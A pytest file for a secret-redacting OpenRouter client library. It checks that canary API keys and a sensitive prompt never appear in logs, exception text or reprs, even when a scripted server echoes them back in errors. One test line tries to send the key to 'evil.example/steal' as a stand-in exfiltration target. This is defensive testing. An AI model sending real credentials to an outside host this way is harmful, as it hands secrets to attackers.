"""The leak test: a canary key and a canary prompt through every client path, every
error included, while the server does its worst (echoing both back in error messages,
moderation metadata, HTTP-200 errors and mid-stream errors). Neither may appear in a
log record, an exception's text, repr or traceback, or its attributes."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Any

import pytest

from openrouter_secure import (
    AsyncRedactingClient,
    OpenRouterError,
    OpenRouterSecureError,
    RedactingClient,
    Secret,
    SecretRef,
    default_sanitizer,
    install_log_redaction,
    register_backend,
    remove_log_redaction,
    secure_http_client,
    unregister_backend,
)
from openrouter_secure.testing import (
    FakeProvider,
    LeakCheck,
    OpenRouterTestServer,
    ScriptedResponse,
    assert_no_leak,
    make_canary,
)
from tests.services import free_port

MODEL = "openai/gpt-4o-mini"


@pytest.fixture
def canaries(openrouter_server: OpenRouterTestServer) -> Iterator[tuple[str, str, str]]:
    key, admin = make_canary(), make_canary("openrouter-management")
    openrouter_server.add_key(key)
    openrouter_server.add_key(admin, management=True)
    prompt = "Please summarise my diagnosis " + make_canary("plain") + " for my employer"
    provider = FakeProvider({"app/key": key}, name="leakstore")
    register_backend("leakstore", provider, replace=True)
    yield key, admin, prompt
    unregister_backend("leakstore")


def _hostile_errors(key: str, prompt: str) -> list[ScriptedResponse]:
    """Every error status, each echoing the key and the prompt in message and metadata."""
    out = []
    for status in (400, 401, 402, 403, 404, 408, 429, 500, 502, 503):
        out.append(
            ScriptedResponse.error(
                status,
                f"key {key} refused for input: {prompt}",
                metadata={
                    "flagged_input": prompt,
                    "raw": {"prompt": prompt, "authorization": f"Bearer {key}"},
                    "detail": f"token={key}",
                    "reasons": ["test"],
                },
            )
        )
    return out


def _collect(errors: list[BaseException], fn: Any) -> None:
    try:
        result = fn()
        if hasattr(result, "__next__"):
            list(result)
    except OpenRouterSecureError as exc:
        errors.append(exc)


def test_no_path_of_the_sync_client_leaks_the_key_or_the_prompt(
    openrouter_server: OpenRouterTestServer, canaries: tuple[str, str, str]
) -> None:
    key, admin_key, prompt = canaries
    messages = [{"role": "user", "content": prompt}]
    errors: list[BaseException] = []
    outputs: list[Any] = []
    common: dict[str, Any] = {
        "base_url": openrouter_server.base_url,
        "allow_insecure_loopback": True,
        "max_retries": 0,
    }
    with LeakCheck(key, admin_key, prompt) as leaks:
        client = RedactingClient("leakstore://app/key", **common)
        outputs += [repr(client), client.chat(model=MODEL, messages=messages)]
        stream = client.chat(model=MODEL, messages=messages, stream=True)
        outputs += [repr(stream), *list(stream)]
        outputs += [
            client.models(),
            client.key_info(),
            client.model_endpoints("openai", "gpt-4o-mini"),
        ]
        # Every error status, on completions and on another endpoint.
        for scripted in _hostile_errors(key, prompt):
            openrouter_server.script("/chat/completions", scripted)
            _collect(errors, lambda: client.chat(model=MODEL, messages=messages))
        for scripted in _hostile_errors(key, prompt):
            openrouter_server.script("/key", scripted)
            _collect(errors, client.key_info)
        # Errors with HTTP 200 and inside a stream, echoing both.
        openrouter_server.script(
            "/chat/completions",
            ScriptedResponse.error(502, f"{key} {prompt}", http_status=200),
            ScriptedResponse.stream(["a"], error_after=1, error_message=f"{key} :: {prompt}"),
        )
        _collect(errors, lambda: client.chat(model=MODEL, messages=messages))
        _collect(errors, lambda: client.chat(model=MODEL, messages=messages, stream=True))
        # Timeout, refused connection, redirect, insecure URLs, management key, bad key.
        slow = RedactingClient(Secret(key), timeout=0.1, **common)
        openrouter_server.script("/chat/completions", ScriptedResponse(200, {}, delay=0.5))
        _collect(errors, lambda: slow.chat(model=MODEL, messages=messages))
        gone = RedactingClient(
            Secret(key),
            base_url=f"http://127.0.0.1:{free_port()}/api/v1",
            allow_insecure_loopback=True,
            max_retries=0,
        )
        _collect(errors, lambda: gone.chat(model=MODEL, messages=messages))
        with OpenRouterTestServer() as other:
            openrouter_server.script(
                "/models", ScriptedResponse.redirect(other.base_url + "/models")
            )
            outputs.append(client.models())
            assert other.requests[0].header("authorization") is None
        _collect(
            errors, lambda: RedactingClient(Secret(key), base_url="http://openrouter.ai/api/v1")
        )
        _collect(
            errors,
            lambda: secure_http_client(Secret(key)).get("https://evil.example/steal"),
        )
        admin = RedactingClient(Secret(admin_key), **common)
        _collect(errors, lambda: admin.chat(model=MODEL, messages=messages))
        outputs += [admin.create_key("leak-test"), admin.list_keys(), admin.credits()]
        wrong = RedactingClient(Secret(make_canary()), check_key_type=False, **common)
        _collect(errors, lambda: wrong.chat(model=MODEL, messages=messages))
        for c in (client, slow, gone, admin, wrong):
            c.close()
    assert len(errors) >= 28, [type(e).__name__ for e in errors]
    # The errors as raised (their frames hold raw locals, as any Python exception's
    # do), and the scrubbed copies a reporter gets, locals included (keys only: a
    # scrubbed frame of this test shows its sanitized locals, and a prompt is no secret).
    leaks.check(
        *errors, *[repr(vars(e)) for e in errors], *outputs[:1], *map(repr, outputs),
        frame_locals=False,
    )  # fmt: skip
    assert_no_leak([key, admin_key], *map(default_sanitizer().scrub_exception, errors))


def test_no_path_of_the_async_client_leaks_the_key_or_the_prompt(
    openrouter_server: OpenRouterTestServer, canaries: tuple[str, str, str]
) -> None:
    key, _, prompt = canaries
    messages = [{"role": "user", "content": prompt}]
    errors: list[BaseException] = []

    async def run() -> None:
        async with AsyncRedactingClient(
            "leakstore://app/key",
            base_url=openrouter_server.base_url,
            allow_insecure_loopback=True,
            max_retries=0,
        ) as client:
            await client.chat(model=MODEL, messages=messages)
            async for _ in await client.chat(model=MODEL, messages=messages, stream=True):
                pass
            for scripted in _hostile_errors(key, prompt):
                openrouter_server.script("/chat/completions", scripted)
                try:
                    await client.chat(model=MODEL, messages=messages)
                except OpenRouterSecureError as exc:
                    errors.append(exc)
            openrouter_server.script(
                "/chat/completions",
                ScriptedResponse.stream(["a"], error_after=0, error_message=f"{key} {prompt}"),
            )
            try:
                async for _ in await client.chat(model=MODEL, messages=messages, stream=True):
                    pass
            except OpenRouterSecureError as exc:
                errors.append(exc)

    with LeakCheck(key, prompt) as leaks:
        asyncio.run(run())
    assert len(errors) == 11
    leaks.check(*errors, *[repr(vars(e)) for e in errors], frame_locals=False)
    assert_no_leak(key, *map(default_sanitizer().scrub_exception, errors))


def test_the_openai_sdk_path_never_holds_or_logs_the_key(
    openrouter_server: OpenRouterTestServer, canaries: tuple[str, str, str]
) -> None:
    # The SDK's own DEBUG log may include request bodies (its design, not ours): this
    # path proves the *key* never reaches the SDK, its logs or its errors.
    openai = pytest.importorskip("openai")
    key, _, prompt = canaries
    http = secure_http_client(
        "leakstore://app/key", base_url=openrouter_server.base_url, allow_insecure_loopback=True
    )
    sdk = openai.OpenAI(
        base_url=openrouter_server.base_url, api_key="placeholder", http_client=http, max_retries=0
    )
    errors: list[BaseException] = []
    with LeakCheck(key) as leaks:
        sdk.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": prompt}])
        for scripted in _hostile_errors(key, prompt)[:3]:
            openrouter_server.script("/chat/completions", scripted)
            try:
                sdk.chat.completions.create(
                    model=MODEL, messages=[{"role": "user", "content": "x"}]
                )
            except openai.APIError as exc:
                errors.append(exc)
    assert len(errors) == 3
    http.close()
    # The SDK's errors carry the server's raw text: they are the SDK's, and hold the
    # echoed key only because this hostile server echoes it. Our client's never do.
    leaks.check(repr(sdk), repr(SecretRef.parse("leakstore://app/key")))


@pytest.mark.parametrize(
    "userinfo", ["admin:{c}", "{c}", "{c}:"], ids=["password", "user-token", "user-only"]
)
def test_client_reprs_mask_userinfo_in_base_url(userinfo: str) -> None:
    from openrouter_secure._client._auth import OriginPolicy

    canary = make_canary("plain")
    base_url = f"https://{userinfo.format(c=canary)}@openrouter.ai/api/v1?token={canary}"
    shown = []
    with RedactingClient(Secret(make_canary()), base_url=base_url) as client:
        shown += [repr(client), str(client), f"{client!r}"]
    shown.append(repr(AsyncRedactingClient(Secret(make_canary()), base_url=base_url)))
    shown.append(repr(OriginPolicy(base_url)))
    assert all("[secure]@openrouter.ai" in text for text in shown)
    assert_no_leak(canary, *shown)


def test_a_credential_in_the_base_urls_path_is_masked_in_httpx_request_lines(
    openrouter_server: OpenRouterTestServer,
) -> None:
    import io
    import logging
    import secrets as pysecrets

    token = pysecrets.token_urlsafe(24)
    base_url = openrouter_server.base_url.replace("/api/v1", f"/gw/{token}/api/v1")
    key = openrouter_server.add_key()
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    httpx_log = logging.getLogger("httpx")
    httpx_log.addHandler(handler)
    httpx_log.setLevel(logging.INFO)
    install_log_redaction()
    try:
        with (
            RedactingClient(
                Secret(key.key), base_url=base_url, allow_insecure_loopback=True, max_retries=0
            ) as client,
            pytest.raises(OpenRouterError),
        ):
            client.models()
    finally:
        remove_log_redaction()
        httpx_log.removeHandler(handler)
        httpx_log.setLevel(logging.NOTSET)
    assert "HTTP Request" in out.getvalue()
    assert_no_leak(token, out.getvalue())
